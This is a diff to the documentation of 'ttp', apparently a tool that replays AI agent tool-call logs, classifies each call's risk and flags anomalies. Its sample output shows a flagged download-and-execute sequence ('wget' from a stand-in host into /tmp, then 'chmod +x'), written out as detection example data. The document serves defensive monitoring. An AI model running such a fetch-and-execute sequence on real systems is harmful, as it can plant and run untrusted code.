@@ -57,7 +57,7 @@ What a session did:
     $ ttp replay shell.jsonl --story sh --explain -q
     Session sh: 4 calls, 4 anomalies
       CALL  TIME      TOOL                      CLASS              TAINT  WHAT
-         0  10:00:00  cd                        read_only                 cd /tmp  [tools.yaml:225]
+         0  10:00:00  cd                        read_only                 cd /tmp  [tools.yaml:229]
     ▶    1  10:00:00  wget                      filesystem_write   taint  wget http://192.0.2.1/x  [tools.yaml:151]
     ▶    2  10:00:03  chmod                     code_execution            chmod +x x  [tools.yaml:189]
             ▲ novel_tool_after_untrusted_content (85)
@@ -79,8 +79,8 @@ Which line classified what:
     $ ttp replay calls.jsonl --sequence only --explain --summary none 2>&1 >/dev/null | grep -v 'records/s'
     ttp: calls.jsonl: format toolcall
          CALLS  TOOL                                  CLASS               TAINT  DECIDED BY
-             1  get_weather                           read_only           -      tools.yaml:233 (word of the name)
-             1  list_tools                            read_only           -      tools.yaml:233 (word of the name)
+             1  get_weather                           read_only           -      tools.yaml:237 (word of the name)
+             1  list_tools                            read_only           -      tools.yaml:237 (word of the name)
              1  read_inbox                            read_only           yes    tools.yaml:46
              1  send_email                            network_egress      -      tools.yaml:69
              2  update_password                       credential_access   -      tools.yaml:23
